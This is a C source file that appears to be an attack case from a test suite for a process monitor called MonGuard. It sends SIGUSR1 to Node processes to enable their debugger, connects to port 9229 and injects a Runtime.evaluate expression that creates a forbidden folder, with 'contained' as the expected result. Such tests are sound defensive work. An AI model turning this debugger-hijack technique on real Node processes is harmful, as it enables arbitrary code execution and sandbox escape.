/* attack
class: lifetime
aim: call
alone: true
tries: the debugger of MonGuard's own Node, which a signal switches on
expect: { none: contained, mpk: contained }
*/
/* Node begins to listen for a debugger when SIGUSR1 comes, and whoever connects runs what he likes there. MonGuard makes copies of files in a
   Node process of the same user, beside the program; one is started by the first file without a copy. Here it is told to make the forbidden
   folder. Without a monitor a Node of our own stands in. */
#include "attack.h"
#include <arpa/inet.h>
#include <dirent.h>
#include <sys/socket.h>
#include <time.h>
#define PORT 9229
static int is_copier(pid_t pid) {
    char path[64], text[1024];
    snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
    int fd = open(path, O_RDONLY);
    ssize_t bytes = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
    if (fd >= 0) close(fd);
    for (ssize_t i = 0; i < bytes - 1; i++)
        if (text[i] == 0) text[i] = ' ';
    text[bytes > 0 ? bytes : 0] = 0;
    return strstr(text, "session/fill.js") != NULL;
}
/* The copiers that are there, but for those of `without`. */
static int find_copiers(pid_t *found, int most, const pid_t *without, int known) {
    int count = 0;
    DIR *folder = opendir("/proc");
    for (struct dirent *entry; folder && (entry = readdir(folder));) {
        pid_t pid = atoi(entry->d_name);
        if (pid <= 1 || count == most || !is_copier(pid)) continue;
        for (int i = 0; i < known; i++)
            if (without[i] == pid) pid = 0;
        if (pid) found[count++] = pid;
    }
    if (folder) closedir(folder);
    return count;
}
/* A program that nobody has seen before: the monitor has a copy made of it. */
static void run_new_program(void) {
    static char all[1 << 20];
    int from = open("/proc/self/exe", O_RDONLY), to = open("again", O_WRONLY | O_CREAT | O_TRUNC, 0755);
    ssize_t bytes = read(from, all, sizeof all - 64);
    bytes += sprintf(all + bytes, "%d %ld", getpid(), (long)time(NULL));
    if (write(to, all, (size_t)bytes) != bytes) exit(1);
    close(from);
    close(to);
    pid_t child = fork();
    if (child == 0) {
        execl("./again", "again", "again", NULL);
        _exit(1);
    }
    waitpid(child, NULL, 0);
}
static int connect_to_debugger(void) {
    struct sockaddr_in at = {.sin_family = AF_INET, .sin_port = htons(PORT), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    struct timeval most = {.tv_sec = 10};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &most, sizeof most);
    if (connect(fd, (struct sockaddr *)&at, sizeof at) == 0) return fd;
    int error = errno;
    close(fd);
    errno = error;
    return -1;
}
static int sends(int fd, const void *data, size_t bytes) { return send(fd, data, bytes, MSG_NOSIGNAL) == (ssize_t)bytes; }
/* Runs an expression in the process that listens; 1 if it took it. */
static int evaluate(const char *expression) {
    char request[512], answer[4096];
    const char *name = NULL;
    int fd = connect_to_debugger();
    if (fd < 0) return 0;
    snprintf(request, sizeof request, "GET /json/list HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nConnection: close\r\n\r\n", PORT);
    size_t have = 0;
    ssize_t got;
    if (sends(fd, request, strlen(request)))
        while (have < sizeof answer - 1 && !name && (got = recv(fd, answer + have, sizeof answer - 1 - have, 0)) > 0) {
            answer[have += (size_t)got] = 0;
            char *url = strstr(answer, "\"webSocketDebuggerUrl\": \"ws://");
            if (url && strchr(url + 30, '"') && (name = strchr(url + 30, '/'))) *strchr(name, '"') = 0;
        }
    close(fd);
    if (!name || (fd = connect_to_debugger()) < 0) return 0;
    snprintf(request, sizeof request,
             "GET %s HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n",
             name, PORT);
    char text[2048];
    int bytes = snprintf(text, sizeof text, "{\"id\":1,\"method\":\"Runtime.evaluate\",\"params\":{\"includeCommandLineAPI\":true,\"expression\":\"%s\"}}", expression);
    unsigned char head[8] = {0x81, 0x80 | 126, (unsigned char)(bytes >> 8), (unsigned char)bytes};
    int sent = sends(fd, request, strlen(request)) && recv(fd, answer, sizeof answer, 0) > 0 && sends(fd, head, sizeof head) && sends(fd, text, (size_t)bytes);
    if (sent) sent = recv(fd, answer, sizeof answer, 0) > 0;
    close(fd);
    return sent;
}
int main(int argc, char **argv) {
    if (argc > 1 && strcmp(argv[1], "again") == 0) return 0;
    pid_t before[256], mine[256], stand_in = 0;
    int busy = connect_to_debugger();
    if (busy >= 0) not_here("somebody listens where the debugger would");
    int known = find_copiers(before, 256, NULL, 0);
    run_new_program();
    int count = find_copiers(mine, 256, before, known);
    if (count == 0) {
        stand_in = fork();
        if (stand_in == 0) {
            execlp("node", "node", "-e", "setTimeout(() => {}, 50000)", NULL);
            _exit(127);
        }
        mine[count++] = stand_in;
    }
    char folder[1024], expression[1400];
    if (!getcwd(folder, sizeof folder)) return 1;
    snprintf(expression, sizeof expression, "(process.getBuiltinModule ? process.getBuiltinModule('fs') : require('fs')).mkdirSync('%s/" FORBIDDEN "')", folder);
    struct stat st;
    for (int i = 0; i < count; i++)
        for (int tries = 0; tries < 100; tries++) {
            int status;
            if (mine[i] == stand_in && waitpid(stand_in, &status, WNOHANG) == stand_in) not_here("no Node to stand in");
            /* Before Node has its handler the signal would end it. */
            if (tries == 10) kill(mine[i], SIGUSR1);
            if (tries >= 10 && evaluate(expression) && stat(FORBIDDEN, &st) == 0) break;
            usleep(100000);
        }
    if (stand_in) {
        kill(stand_in, SIGKILL);
        waitpid(stand_in, NULL, 0);
    }
    unlink("again");
    errno = 0;
    verdict_of_folder();
}
